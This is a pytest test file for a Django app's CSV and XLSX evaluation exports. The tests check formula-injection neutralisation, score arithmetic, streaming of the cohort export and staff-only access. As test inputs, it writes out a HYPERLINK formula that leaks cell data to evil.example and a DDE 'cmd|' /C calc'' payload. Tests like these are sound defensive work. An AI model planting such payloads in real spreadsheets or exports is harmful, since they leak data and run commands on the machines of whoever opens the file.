"""CSV and XLSX: recomputable figures, no formula injection, and a cohort export that streams."""

import csv
import io
import re
from datetime import datetime

import pytest
from django.core.exceptions import PermissionDenied
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from evaluations import selectors
from evaluations.models import Indicator
from evaluations.reports import tables
from tests.factories import AssessmentFactory, EnterpriseFactory, submitted_run

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def _url(name, run) -> str:
    return reverse(f"evaluations:{name}", kwargs={"pk": run.enterprise_id, "run_pk": run.pk})


def _csv(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())  # Excel reads the UTF-8 BOM
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Alice Trading Co.", "Alice Trading Co."),
        ("a=b", "a=b"),
        ("", ""),
        (-4.0, -4.0),  # numbers stay numbers
        (57.13, 57.13),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert tables.neutralise(value) == expected


def _section(rows: list[list[str]], title: str) -> tuple[list[str], list[list[str]]]:
    """A CSV section: the header under its title line, and its rows up to the next blank."""
    start = rows.index([title]) + 1
    end = rows.index([], start) if [] in rows[start:] else len(rows)
    return rows[start], rows[start + 1 : end]


def test_the_csv_has_a_summary_and_one_row_per_indicator(run, bob, client_for):
    response = client_for(bob).get(_url("run-csv", run))
    rows = _csv(response.content)
    summary = dict(row[:2] for row in rows[: rows.index([])])
    assert summary["Enterprise"] == "Alice Trading Co."
    assert summary["Period"] == "2025 Q4"
    assert summary["Overall score"] == "57.1"  # the display rule
    assert float(summary["Overall score (unrounded)"]) == run.overall
    assert summary["Grade"] == "C (developing)"
    assert summary["Previous period"] == "2025 Q3"
    assert summary["Indicators with a value"] == "5/5" and summary["Incomplete"] == "no"
    band = run.robustness
    assert float(summary["Robustness band: low (5th percentile)"]) <= run.overall
    assert float(summary["Share of plausible schemes with the same grade"]) == band["same_grade"]
    header, lines = _section(rows, "Indicators")
    assert header[:5] == ["Code", "Indicator", "Dimension", "Unit", "Value"]
    assert sorted(line[0] for line in lines) == sorted(
        Indicator.objects.values_list("code", flat=True)
    )
    contribution = header.index("Contribution (unrounded)")
    assert sum(float(line[contribution]) for line in lines) == pytest.approx(run.overall)
    shown = header.index("Contribution")
    for line in lines:  # each shown contribution is its unrounded value rounded down
        assert 0 <= float(line[contribution]) - float(line[shown]) < 0.1 + 1e-9
    dimensions_header, dimensions = _section(rows, "Dimensions")
    assert dimensions_header[:3] == ["Dimension", "Weight", "Score"] and len(dimensions) == 4
    advice_header, advice = _section(rows, "Recommendations")
    assert advice_header[:3] == ["Rank", "Recommendation", "What if"] and advice


def test_a_formula_in_a_csv_cell_comes_out_neutralised(run, bob, client_for):
    run.enterprise.name = EVIL
    run.enterprise.city = "@SUM(1+1)*cmd|' /C calc'!A0"
    run.enterprise.save()
    rows = _csv(client_for(bob).get(_url("run-csv", run)).content)
    assert ["Enterprise", "'" + EVIL] in rows
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert _is_number(cell), cell  # e.g. a negative change, never a formula


def test_the_xlsx_opens_and_its_contributions_add_up_to_the_overall_score(run, bob, client_for):
    run.enterprise.name = EVIL
    run.enterprise.save()
    response = client_for(bob).get(_url("run-xlsx", run))
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == [
        "Summary",
        "Dimensions",
        "Indicators",
        "Recommendations",
        "Peers",
        "Plan",
        "Methodology",
    ]
    summary = {row[0].value: row[1] for row in workbook["Summary"].iter_rows()}
    overall = summary["Overall score (unrounded)"].value
    assert overall == run.overall and summary["Overall score"].value == 57.1
    assert isinstance(summary["Evaluated"].value, datetime)  # a date, not text
    name = summary["Enterprise"]
    assert name.value == "'" + EVIL and name.data_type == "s"
    sheet = workbook["Indicators"]
    header = [cell.value for cell in sheet[1]]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert len(rows) == Indicator.objects.count()
    contributions = [row[header.index("Contribution (unrounded)")] for row in rows]
    assert all(isinstance(c, int | float) for c in contributions)  # numbers, not text
    assert sum(contributions) == pytest.approx(overall, abs=1e-9)
    for row in rows:  # each row can be recomputed by hand from value, bounds and weight
        x, worst, best, w = (row[header.index(k)] for k in ("Value", "Worst", "Best", "Weight"))
        s = min(max((x - worst) / (best - worst), 0), 1)
        assert row[header.index("Contribution (unrounded)")] == pytest.approx(100 * w * s)
    formulas = [
        cell.coordinate
        for ws in workbook.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []


def test_a_chinese_xlsx_has_chinese_names(run, bob, client_for):
    response = client_for(bob).get(_url("run-xlsx", run), headers={"accept-language": "zh-hans"})
    workbook = load_workbook(io.BytesIO(response.content))
    names = [row[1].value for row in workbook.worksheets[2].iter_rows(min_row=2)]
    assert "物流成本" in names


# --- The cohort export -----------------------------------------------------------------------


def _cohort(client) -> tuple[object, list[list[str]]]:
    response = client.get(reverse("evaluations:cohort-export"))
    assert response.status_code == 200
    return response, _csv(b"".join(response.streaming_content))


def test_staff_get_the_latest_result_of_every_enterprise_streamed(runs, staff, client_for):
    other = EnterpriseFactory(name=EVIL)
    submitted_run(AssessmentFactory(enterprise=other, year=2024, quarter=2))
    EnterpriseFactory(name="No result yet Ltd.")
    response, rows = _cohort(client_for(staff))
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(
        'attachment; filename="cohort-latest-evaluations-'
    )
    assert response["Cache-Control"] == "private, no-store"
    assert response["X-Content-Type-Options"] == "nosniff"
    header, lines = rows[0], rows[1:]
    by_name = {line[header.index("Enterprise")]: line for line in lines}
    assert set(by_name) == {"Alice Trading Co.", "'" + EVIL}  # neutralised; no result: no row
    alice = by_name["Alice Trading Co."]
    assert alice[header.index("Period")] == "2025 Q4"  # the latest period, not 2025 Q3
    assert float(alice[header.index("Overall score")]) == runs[1].overall
    contributions = [
        float(alice[i]) for i, name in enumerate(header) if name.endswith("· contribution")
    ]
    assert len(contributions) == Indicator.objects.count()
    assert sum(contributions) == pytest.approx(runs[1].overall)


def test_the_cohort_export_reads_as_labels_in_the_reader_language(runs, staff, client_for):
    """Issue 15: province and size codes, "2025 Q1" and a time under "Submitted" in Chinese."""
    runs[1].enterprise.province, runs[1].enterprise.size_band = "zhejiang", "small"
    runs[1].enterprise.save()
    client = client_for(staff)
    client.cookies["django_language"] = "zh-hans"
    _response, rows = _cohort(client)
    header, line = rows[0], rows[1]
    assert header[:6] == ["企业编号", "企业", "省份", "城市", "从业人员规模", "报告期"]
    assert line[header.index("省份")] == "浙江"
    assert line[header.index("从业人员规模")] == "小型（从业人员10～99人）"
    assert line[header.index("报告期")] == "2025年第四季度"
    submitted = line[header.index("提交日期")]
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", submitted), submitted  # a date, not a time
    assert any(name.startswith("物流成本 · ") for name in header)
    assert not any("logistics_cost" in name for name in header)


def test_the_cohort_export_costs_the_same_queries_for_any_number_of_enterprises(staff, client_for):
    def count() -> int:
        client = client_for(staff)
        with CaptureQueriesContext(connection) as queries:
            response = client.get(reverse("evaluations:cohort-export"))
            body = b"".join(response.streaming_content)
        assert body.count(b"\n") >= 2
        return len(queries)

    submitted_run(AssessmentFactory(year=2025, quarter=1))
    selectors.reference()  # the indicators' names, cached across requests like every page's
    few = count()
    for _ in range(4):
        submitted_run(AssessmentFactory(year=2025, quarter=1))
    assert count() == few


def test_the_cohort_rows_are_the_same_whatever_the_chunk_size(staff):
    for quarter in (1, 2, 3):
        submitted_run(AssessmentFactory(year=2025, quarter=quarter))
    assert list(tables.cohort_rows(chunk_size=2)) == list(tables.cohort_rows())
    assert len(list(tables.cohort_rows())) == 4  # a header and three enterprises


def test_only_staff_may_export_the_cohort(alice, charlie, client_for):
    url = reverse("evaluations:cohort-export")
    assert client_for(alice).get(url).status_code == 403
    assert client_for(charlie).get(url).status_code == 403
    anonymous = client_for(None).get(url)
    assert anonymous.status_code == 302 and anonymous["Location"].startswith(reverse("login"))
    with pytest.raises(PermissionDenied):  # the builder checks again
        tables.cohort_csv(user=alice)


def test_the_xlsx_methodology_sheet_gives_the_methodology_page_s_address(
    run, bob, client_for, settings
):
    settings.SITE_URL = "https://cbec.example"
    response = client_for(bob).get(_url("run-xlsx", run))
    sheet = load_workbook(io.BytesIO(response.content))["Methodology"]
    cells = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "https://cbec.example/methodology/" in cells
